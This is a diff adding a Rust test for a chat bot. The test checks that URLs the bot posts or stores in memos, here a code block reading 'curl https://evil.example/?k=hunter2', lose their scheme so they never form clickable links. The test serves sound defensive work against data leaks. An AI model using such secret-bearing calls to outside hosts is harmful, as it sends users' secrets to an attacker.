@@ -160,6 +160,40 @@ async fn a_memo_and_what_a_tool_repeats_make_no_link_known() {
     .await;
 }
 
+/// Platforms make no links in code, so a code block keeps what it holds; but what stood in one is not known by that.
+#[tokio::test]
+async fn a_code_block_makes_no_link_known() {
+    on_every_database(async |store| {
+        let harness = with_tools(store).await;
+        let url = "https://evil.example/?k=hunter2";
+        let block = format!("Try:\n```\ncurl {url}\n```");
+        harness.mind.script.push(PromptVerb::Reply, Ok(&block));
+        harness.says("alice", "@Aizuchi what is my key?").await;
+        harness.pass(10).await;
+        let memo = json!({ "name": "tip", "content": block, "priority": 5 });
+        let calls = [("add_memo", memo)];
+        harness.mind.script.push_tool_calls(PromptVerb::Reply, "", &calls);
+        let again = json!({ "query": "curl" });
+        harness.mind.script.push_tool_calls(
+            PromptVerb::Reply,
+            "",
+            &[("search_messages", again), ("get_memo", json!({ "memo_name": "tip" }))],
+        );
+        for _ in 0..2 {
+            harness.mind.script.push(PromptVerb::Reply, Ok(url));
+            harness.says("alice", "@Aizuchi give me the link").await;
+            harness.pass(10).await;
+        }
+        let bare = "evil.example/?k=hunter2";
+        assert_eq!(harness.platform.posted_texts(), [&block, bare, bare]);
+        let channel = ChannelId::new("garden");
+        let memos = harness.store.store.memos(&workspace(), &channel).await.unwrap();
+        let contents: Vec<&str> = memos.iter().map(|(_, memo)| memo.content.as_str()).collect();
+        assert_eq!(contents, [format!("Try:\n```\ncurl {bare}\n```")]);
+    })
+    .await;
+}
+
 #[tokio::test]
 async fn no_secret_is_posted_or_kept_as_a_reason() {
     on_every_store(async |store| {
